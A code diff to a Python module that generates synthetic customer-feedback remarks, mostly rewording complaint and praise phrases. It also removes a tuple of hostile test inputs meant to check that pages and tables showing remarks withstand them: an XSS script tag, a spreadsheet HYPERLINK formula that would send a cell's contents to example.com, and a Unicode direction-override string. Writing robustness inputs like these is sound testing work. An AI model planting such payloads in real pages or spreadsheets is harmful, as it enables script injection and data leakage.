@@ -37,7 +37,7 @@ WORDINGS: Mapping[Subject, Wording] = {
         ("", "", ".", "!!", ". Please check.", ". Very disappointed.", " and nobody answers."),
     ),
     "length": Wording(
-        ("", "", "Hm, ", "Well, ", "To be fair, it is right, but "),
+        ("", "", "Well, ", "To be fair, it is right, but "),
         (
             "way too long, I had to search for the one sentence I need",
             "the answer took ages to appear",
@@ -51,7 +51,7 @@ WORDINGS: Mapping[Subject, Wording] = {
         ("", ".", "...", ". Keep it short.", ". On the phone it is unreadable."),
     ),
     "price": Wording(
-        ("", "", "Wrong: ", "Nope, ", "Careful, "),
+        ("", "", "Sorry, ", "No, "),
         (
             "that price is wrong, the checkout says something else",
             "the shop page shows {price} euros",
@@ -61,7 +61,7 @@ WORDINGS: Mapping[Subject, Wording] = {
             "two different prices in one answer, which one is it",
             "wrong price again",
         ),
-        ("", ".", "!", ". Embarrassing.", ". Please correct it."),
+        ("", ".", "!", ". Please correct it."),
     ),
     "language": Wording(
         ("", "", "Bitte: ", "Perdón, "),
@@ -86,24 +86,23 @@ WORDINGS: Mapping[Subject, Wording] = {
             "white screen in the app after the update",
             "the app freezes when I tap on the link",
             "crash on my Pixel, version 4.{minor}",
-            "the app crashes as soon as I rate something",
+            "the app crashes as soon as I open the chat",
         ),
         ("", ".", "!", ". On the website it works.", ". Android."),
     ),
     "wrong": Wording(
-        ("", "", "Sorry, ", "Hm. "),
+        ("", "", "Sorry, ", "No, "),
         (
-            "that is not what I asked",
-            "does not answer my question",
-            "this is about something else",
-            "no idea what to do now",
-            "I need a person, please",
-            "the page in my account says the contrary",
-            "useless for me",
-            "not helpful at all",
-            "half of it is true, the other half is old",
+            "wrong answer, I asked something else",
+            "wrong answer, that was not my question",
+            "the answer does not fit my question",
+            "that is not an answer to my question",
+            "this answer is about another question",
+            "wrong answer, my account says the contrary",
+            "the answer is no use to me",
+            "the answer is wrong",
         ),
-        ("", ".", "!", ". Next time I call."),
+        ("", ".", "!"),
     ),
     "praise": Wording(
         ("", "", "Wow, ", "Oh, "),
@@ -119,15 +118,6 @@ WORDINGS: Mapping[Subject, Wording] = {
         ("", ".", "!", " :)", ", thank you."),
     ),
 }
-
-HOSTILE = (
-    "<script>alert(1)</script> your bot is broken",
-    '=HYPERLINK("http://example.com/?x="&A1,"Click here for your refund")',
-    "התשובה לא נכונה, ההחזר עדיין לא הגיע אחרי 12 ימים",
-    "لا تزال أموالي غير موجودة 😡😡😡 refund???",
-    "\u202etxet siht daer ot yrt\u202c 👩🏽‍💻👍🏿🇵🇹",
-)
-"""What a page or a table that shows remarks has to bear."""
 
 
 def remark(subject: Subject, random: Random) -> str:
